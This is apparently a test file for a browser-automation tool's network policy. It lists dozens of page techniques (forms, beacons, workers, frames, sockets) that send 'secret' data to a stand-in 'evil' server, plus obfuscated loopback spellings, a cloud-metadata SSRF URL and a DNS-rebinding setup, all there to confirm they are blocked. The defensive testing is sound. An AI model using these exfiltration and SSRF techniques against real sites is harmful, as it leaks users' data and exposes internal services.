// [T17] [T18] Where a task may not go, it does not get: every way a page has of making a request, as a
// real page in a real browser. Each way is shown to work when there is no policy.

import { createSocket } from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import type { Policy } from '@tabhand/actions';
import { Guard, openEgress } from '@tabhand/browser/node';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { TestBrowser } from '../actions/browser.ts';

let browser: TestBrowser;
let evil: Server;
let origin = '';
let evilUrl = '';
let evilHost = '';
/** What the evil site saw: requests and socket handshakes. */
let seen: string[] = [];
let connections = 0;

beforeAll(async () => {
  // Without limits of its own, so that the same browser shows both sides.
  browser = await TestBrowser.open({}, { limits: {} });
  origin = new URL(browser.url('/')).origin;
  evil = createServer((request, response) => {
    seen.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
    response.end('<title>Evil</title><h1>gotcha</h1>');
  });
  evil.on('connection', () => connections++);
  evil.on('upgrade', (request, socket: Socket) => {
    seen.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  const { promise, resolve } = Promise.withResolvers<void>();
  evil.listen(0, '127.0.0.1', resolve);
  await promise;
  evilHost = `127.0.0.1:${(evil.address() as AddressInfo).port}`;
  evilUrl = `http://${evilHost}/x`;
  browser.answer('/to-evil', (_, response) => {
    response.writeHead(302, { location: evilUrl }).end();
  });
  browser.answer('/to-evil-307', (_, response) => {
    response.writeHead(307, { location: evilUrl }).end();
  });
  browser.answer('/turning', `<title>Turning</title><script>opener.location='${evilUrl}'</script>`);
  const script = (body: string) => (_: unknown, response: import('node:http').ServerResponse) =>
    void response.writeHead(200, { 'content-type': 'text/javascript' }).end(body);
  browser.answer('/fetching.js', script(`fetch('${evilUrl}').catch(()=>{})`));
  browser.answer('/importing.js', script(`try{importScripts('${evilUrl}')}catch{}`));
  browser.answer('/socketing.js', script(`new WebSocket('ws://${evilHost}/worker')`));
  browser.answer('/shared.js', script(`fetch('${evilUrl}').catch(()=>{})`));
  browser.answer(
    '/service.js',
    script(`self.oninstall=e=>e.waitUntil(fetch('${evilUrl}').catch(()=>{}))`),
  );
});
afterAll(async () => {
  await browser.close();
  evil.closeAllConnections();
  evil.close();
});
beforeEach(() => {
  seen = [];
  connections = 0;
});

const onclick = (script: string) => `<button id=go onclick="${script}">go</button>`;
const now = (html: string) => `<button id=go>go</button>${html}`;

/** Each is a page that reaches for the evil site when its button is pressed, or by itself. */
const routes: Record<string, () => string> = {
  'a link': () => `<a id=go href="${evilUrl}">go</a>`,
  'a link with a user name before the host': () =>
    `<a id=go href="http://127.0.0.1@${evilHost}/x">go</a>`,
  'a link for a new window': () => `<a id=go target=_blank href="${evilUrl}">go</a>`,
  'a link to a redirect': () => '<a id=go href="/to-evil">go</a>',
  'a link with a ping': () => `<a id=go href="#here" ping="${evilUrl}">go</a>`,
  'a form': () =>
    `<form action="${evilUrl}"><input name=secret value=1><button id=go>go</button></form>`,
  'a form that posts': () =>
    `<form method=post action="${evilUrl}"><input name=secret value=1><button id=go>go</button></form>`,
  'a form that is redirected with its body': () =>
    '<form method=post action="/to-evil-307"><input name=secret value=1><button id=go>go</button></form>',
  'location =': () => onclick(`location='${evilUrl}'`),
  'location.replace': () => onclick(`location.replace('${evilUrl}')`),
  'a javascript: link': () => `<a id=go href="javascript:void(location='${evilUrl}')">go</a>`,
  'meta refresh': () => now(`<meta http-equiv=refresh content="0;url=${evilUrl}">`),
  'window.open': () => onclick(`window.open('${evilUrl}')`),
  'window.open, then its location': () =>
    onclick(`window.open('about:blank').location='${evilUrl}'`),
  'a window that turns its opener': () => onclick(`window.open('/turning')`),
  'a frame': () => now(`<iframe src="${evilUrl}"></iframe>`),
  'a frame redirected': () => now('<iframe src="/to-evil"></iframe>'),
  'a srcdoc frame with a picture': () => now(`<iframe srcdoc="<img src='${evilUrl}'>"></iframe>`),
  'a data: frame with a picture': () =>
    now(`<iframe src="data:text/html,<img src='${evilUrl}'>"></iframe>`),
  'a sandboxed frame that turns the top': () =>
    now(
      `<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location='${evilUrl}'</script>"></iframe>`,
    ),
  'a picture': () => now(`<img src="${evilUrl}?secret=1">`),
  'a picture redirected': () => now('<img src="/to-evil">'),
  'a script': () => now(`<script src="${evilUrl}"></script>`),
  'a style sheet': () => now(`<link rel=stylesheet href="${evilUrl}">`),
  'a background of a style': () => now(`<style>body{background:url(${evilUrl})}</style>`),
  'a video': () => now(`<video src="${evilUrl}"></video>`),
  'an object': () => now(`<object data="${evilUrl}"></object>`),
  'a prefetch': () => now(`<link rel=prefetch href="${evilUrl}">`),
  'a preload': () => now(`<link rel=preload as=image href="${evilUrl}">`),
  fetch: () => onclick(`fetch('${evilUrl}',{method:'POST',body:'secret'}).catch(()=>{})`),
  'fetch without CORS': () => onclick(`fetch('${evilUrl}',{mode:'no-cors'}).catch(()=>{})`),
  XMLHttpRequest: () => onclick(`let x=new XMLHttpRequest();x.open('GET','${evilUrl}');x.send()`),
  sendBeacon: () => onclick(`navigator.sendBeacon('${evilUrl}','secret')`),
  EventSource: () => onclick(`new EventSource('${evilUrl}')`),
  WebSocket: () => onclick(`new WebSocket('ws://${evilHost}/page')`),
  'a worker that fetches': () => onclick(`new Worker('/fetching.js')`),
  'a worker that imports': () => onclick(`new Worker('/importing.js')`),
  'a worker with a socket': () => onclick(`new Worker('/socketing.js')`),
  'a worker from a blob': () =>
    `<script>const code='fetch("${evilUrl}").catch(()=>{})'</script>
    ${onclick('new Worker(window.URL.createObjectURL(new Blob([code])))')}`,
  'a shared worker that fetches': () => onclick(`new SharedWorker('/shared.js?'+Math.random())`),
  'a service worker that fetches': () =>
    onclick(
      `navigator.serviceWorker.register('/service.js?'+Math.random(),{scope:'/scope'+Math.random()})`,
    ),
};

/** Opens the page and presses the button; answers what the outcomes said was blocked. */
async function take(html: string, policy?: Policy): Promise<string[]> {
  const blocked: string[] = [];
  const context = policy ? { policy } : {};
  browser.answer('/route', `<!doctype html><title>Route</title>${html}`);
  const doing = async (tool: string, args: Record<string, string>) => {
    const outcome = await browser.do(tool, args, context);
    blocked.push(...(outcome.changes?.blocked ?? []));
    return outcome;
  };
  await doing('browser_navigate', { action: 'goto', url: browser.url('/route') });
  await doing('browser_interact', { action: 'click', selector: '#go', timeout: 3000 } as never);
  await expect
    .poll(
      async () => {
        await doing('browser_tab', { action: 'list' });
        return blocked.length + seen.length;
      },
      { timeout: 5000 },
    )
    .toBeGreaterThan(0);
  return blocked;
}

const alone = async () => {
  await browser.ok('browser_tab', { action: 'close_others' });
  await browser.ok('browser_navigate', { action: 'goto', url: 'about:blank' });
};

describe('[T17] every way out of a page', () => {
  test.for(Object.keys(routes))('%s', async (name) => {
    const html = routes[name]?.() ?? '';
    const blocked = await take(html, { allow: [origin] });
    expect(seen).toEqual([]);
    expect(connections).toBe(0);
    expect(blocked.length).toBeGreaterThan(0);
    expect(blocked.filter((line) => !line.includes(evilHost))).toEqual([]);
    for (const tab of browser.driver.tabs()) expect(tab.url).not.toContain(evilHost);
    await alone();
    // The control: without a policy the same page gets there.
    await take(html);
    await expect.poll(() => seen.length, { timeout: 5000 }).toBeGreaterThan(0);
    await alone();
  });
});

describe('[T18] private addresses', () => {
  const spellings = (port: string) =>
    [
      '127.0.0.1',
      '127.1',
      '2130706433',
      '0x7f000001',
      '0177.0.0.1',
      '0',
      'localhost',
      'a.localhost',
    ]
      .concat(['[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::1]'])
      .map((host) => `${host}:${port}`);

  /** Every spelling, by every kind of request; a page without an origin may try them all. */
  const trying = () => {
    const hosts = spellings(evilHost.split(':')[1] ?? '');
    const script = `for(const h of ${JSON.stringify(hosts)}){fetch('http://'+h+'/f',{mode:'no-cors'}).catch(()=>{});
      new Image().src='http://'+h+'/i';new WebSocket('ws://'+h+'/w');
      document.body.append(Object.assign(document.createElement('iframe'),{src:'http://'+h+'/n'}))}`;
    return `data:text/html,${encodeURIComponent(`<body><script>${script}</script>`)}`;
  };

  test('are not reached in any spelling by any kind of request', async () => {
    const guarded = await TestBrowser.open({}, { limits: { blockPrivate: true } });
    try {
      const { changes } = await guarded.ok('browser_navigate', { action: 'goto', url: trying() });
      expect(changes?.blocked?.length).toBeGreaterThan(10);
      for (const host of [...spellings('80'), '169.254.169.254', '2852039166', '[fd00:ec2::254]']) {
        const url = `http://${host}/latest/meta-data/`;
        const outcome = await guarded.fails('browser_navigate', { action: 'goto', url });
        expect([host, outcome.error.code]).toEqual([host, 'POLICY_BLOCKED']);
      }
      expect(connections).toBe(0);
    } finally {
      await guarded.close();
    }
    // The control: a browser without limits gets there.
    await browser.do('browser_navigate', { action: 'goto', url: trying() });
    await expect.poll(() => connections).toBeGreaterThan(0);
  });

  test('a name that leads to one is looked up once and refused', async () => {
    const names = await nameServer('127.0.0.1');
    for (const [limits, reaches] of [
      [{ blockPrivate: true }, 0],
      [{}, 1],
    ] as const) {
      const guard = new Guard(limits);
      const egress = await openEgress(guard, names.resolve);
      const port = /127\.0\.0\.1:(\d+)/.exec(egress.flags[0] ?? '')?.[1];
      seen = [];
      await throughProxy(Number(port), `http://rebind.example:${evilHost.split(':')[1]}/`);
      egress.close();
      expect(seen).toHaveLength(reaches);
      expect(guard.take()).toHaveLength(1 - reaches);
    }
    names.close();
  });
});

/** A name server that answers every name with the same address. */
async function nameServer(address: string) {
  const socket = createSocket('udp4');
  socket.on('message', (query, { port }) => {
    const answer = Buffer.from([
      0xc0,
      0x0c,
      0,
      1,
      0,
      1,
      0,
      0,
      0,
      0,
      0,
      4,
      ...address.split('.').map(Number),
    ]);
    const head = Buffer.concat([
      query.subarray(0, 2),
      Buffer.from([0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]),
    ]);
    const question = query.subarray(12, query.indexOf(0, 12) + 5);
    socket.send(Buffer.concat([head, question, answer]), port);
  });
  const { promise, resolve } = Promise.withResolvers<void>();
  socket.bind(0, '127.0.0.1', resolve);
  await promise;
  const resolver = new Resolver();
  resolver.setServers([`127.0.0.1:${socket.address().port}`]);
  return {
    resolve: async (name: string) => (await resolver.resolve4(name))[0] ?? '',
    close: () => socket.close(),
  };
}

async function throughProxy(port: number, path: string): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const asked = request({ host: '127.0.0.1', port, path, headers: { host: 'rebind.example' } });
  asked.on('response', (response) => response.resume().on('end', resolve));
  asked.on('error', () => resolve());
  asked.end();
  await promise;
}

describe('[T17] what a task is told', () => {
  test('going there itself is refused before anything is sent, redirects on the way', async () => {
    const policy = { allow: [origin] };
    const direct = await browser.fails(
      'browser_navigate',
      { action: 'goto', url: evilUrl },
      { policy },
    );
    expect(direct).toMatchObject({ reached: 'parsed', error: { code: 'POLICY_BLOCKED' } });
    const url = browser.url('/to-evil');
    const led = await browser.fails('browser_navigate', { action: 'goto', url }, { policy });
    expect(led).toMatchObject({
      error: { code: 'POLICY_BLOCKED', message: expect.stringContaining(evilHost) },
      changes: { blocked: [expect.stringContaining(evilHost)] },
    });
    const tab = { action: 'new', url: evilUrl };
    const opened = await browser.fails('browser_tab', tab, { policy });
    expect(opened.error.code).toBe('POLICY_BLOCKED');
    expect(seen).toEqual([]);
  });

  test('a page that was led astray is still there, and one attempt is one line', async () => {
    const policy = { allow: [origin] };
    await browser.show(`<h1>Here</h1><a href="${evilUrl}">out</a>`);
    const click = { action: 'click', selector: 'a', settle: 'quiet' };
    const { changes } = await browser.ok('browser_interact', click, { policy });
    const read = { action: 'get_text', selector: 'h1' };
    const { value, changes: later } = await browser.ok('browser_content', read, { policy });
    expect(value).toMatchObject({ content: 'Here' });
    expect([...(changes?.blocked ?? []), ...(later?.blocked ?? [])]).toHaveLength(1);
  });

  test('a denied origin is closed while everything else stays open', async () => {
    const policy = { deny: [`http://${evilHost}`] };
    await browser.show('<h1>Here</h1>');
    const outcome = await browser.fails(
      'browser_navigate',
      { action: 'goto', url: evilUrl },
      { policy },
    );
    expect(outcome.error.code).toBe('POLICY_BLOCKED');
    await browser.ok(
      'browser_navigate',
      { action: 'goto', url: browser.url('/turning') },
      { policy },
    );
    expect(seen).toEqual([]);
  });
});
